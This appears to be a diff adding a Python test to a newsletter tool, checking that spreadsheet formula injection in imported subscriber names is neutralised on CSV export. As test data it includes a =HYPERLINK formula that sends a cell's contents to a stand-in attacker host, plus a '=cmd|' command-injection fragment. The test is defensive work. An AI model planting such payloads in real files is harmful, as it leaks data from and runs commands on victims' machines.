@@ -261,3 +261,32 @@ def test_export_reads_back_the_same_list(workspace_dir, tmp_path, run_cli, other
     again = tmp_path / "again.csv"
     ok(run_cli(copy, "subscribers", "export", "-o", str(again)))
     assert again.read_text(encoding="utf-8") == exported.read_text(encoding="utf-8")
+
+
+def test_cells_a_spreadsheet_would_run_are_guarded_and_read_back(workspace_dir, tmp_path, run_cli,
+                                                                  other_database, monkeypatch):
+    """Formula injection (issue 23 #2): a name from the public form such as `=HYPERLINK(...)`."""
+    planted = ['=HYPERLINK("http://evil.example/?"&A1,"點我")', "+1 555", "-2+3", "@SUM(1)",
+               "'Tis Ann", "Plain 陳"]
+    members = write_csv(workspace_dir, "email,name,tags\n" + "".join(
+        f'p{i}@example.com,"{name.replace(chr(34), chr(34) * 2)}",=cmd|news\n'
+        for i, name in enumerate(planted)) + '"=1+1",=bad address\n')
+    assert _import(run_cli, workspace_dir, members).exit_code == 3  # the bad address is rejected
+    with open(workspace_dir / "members.rejected.csv", encoding="utf-8", newline="") as fh:
+        rejected = list(csv.reader(fh))[1]
+    assert rejected[2:] == ["'=1+1", "'=bad address"]
+    exported = tmp_path / "export.csv"
+    ok(run_cli(workspace_dir, "subscribers", "export", "-o", str(exported)))
+    with open(exported, encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    cells = [value for row in rows for value in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert {row["name"] for row in rows} == {"'" + name for name in planted[:5]} | {"Plain 陳"}
+    copy = tmp_path / "copy"
+    copy.mkdir()
+    (copy / "gbaletter.toml").write_text((workspace_dir / "gbaletter.toml").read_text())
+    monkeypatch.setenv("GBALETTER_DATABASE_URL", other_database)
+    assert _report(_import(run_cli, copy, exported))["added"] == len(planted)
+    again = tmp_path / "again.csv"
+    ok(run_cli(copy, "subscribers", "export", "-o", str(again)))
+    assert again.read_text(encoding="utf-8") == exported.read_text(encoding="utf-8")
